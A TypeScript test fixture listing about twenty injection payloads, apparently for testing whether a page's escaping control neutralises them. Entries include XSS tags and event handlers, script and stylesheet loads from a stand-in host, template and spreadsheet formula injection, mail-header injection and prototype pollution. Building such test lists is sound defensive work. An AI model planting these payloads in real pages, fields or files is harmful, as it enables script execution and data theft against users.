// Texts by which people have made other people's pages run scripts. Each tries to call `planted()`, or to
// fetch something from a host that is not ours.

/** Ends in a name that no resolver knows, and the browser is told not to ask one. */
const ELSEWHERE = '//planted.example';

export interface Payload {
  text: string;
  /** Whether it does harm as soon as it stands in a page as markup: what the control must see. */
  bites: boolean;
}

const bites = (text: string): Payload => ({ text, bites: true });
const lurks = (text: string): Payload => ({ text, bites: false });

export const payloads: readonly Payload[] = [
  bites('<script>planted()</script>'),
  bites('</script><script>planted()</script><!--'),
  bites('"><img src=x onerror=planted()>'),
  bites("'><svg onload=planted()>"),
  bites('</textarea></title></style><svg><script>planted()</script></svg>'),
  bites(`<iframe srcdoc="<script>parent.planted()</script>"></iframe>`),
  lurks('javascript:planted()//'),
  bites(`<script src=${ELSEWHERE}/a.js></script>`),
  bites(`<link rel=stylesheet href=${ELSEWHERE}/a.css><b>`),
  bites('<math><mtext><img src=x onerror=planted()></mtext></math>'),
  lurks('" autofocus onfocus="planted()" x="'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody's template is what is looked for
  lurks("{{constructor.constructor('planted()')()}} ${planted()} #{planted()} <%= planted() %>"),
  lurks('&lt;img src=x onerror=planted()&gt; &#60;script&#62;planted()&#60;/script&#62;'),
  lurks('\\u003cscript\\u003eplanted()\\u003c/script\\u003e %3Cscript%3Eplanted()%3C/script%3E'),
  lurks(`=HYPERLINK("http:${ELSEWHERE}","a") @SUM(1) +cmd|' /C calc'!A0`),
  bites('\u202e\u2066<img src=x onerror=planted()>\u2069\u0007\ufeff'),
  bites(`<img src="${ELSEWHERE}/a.png">`),
  bites(`${'A'.repeat(120)}<img src=x onerror="planted()">`),
  // A line of its own in a mail's head, or in a saved record.
  lurks('One\r\nBcc: planted@planted.example\r\n\r\nTwo\tThree'),
  bites('{"__proto__":{"planted":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=planted()>"}}'),
];
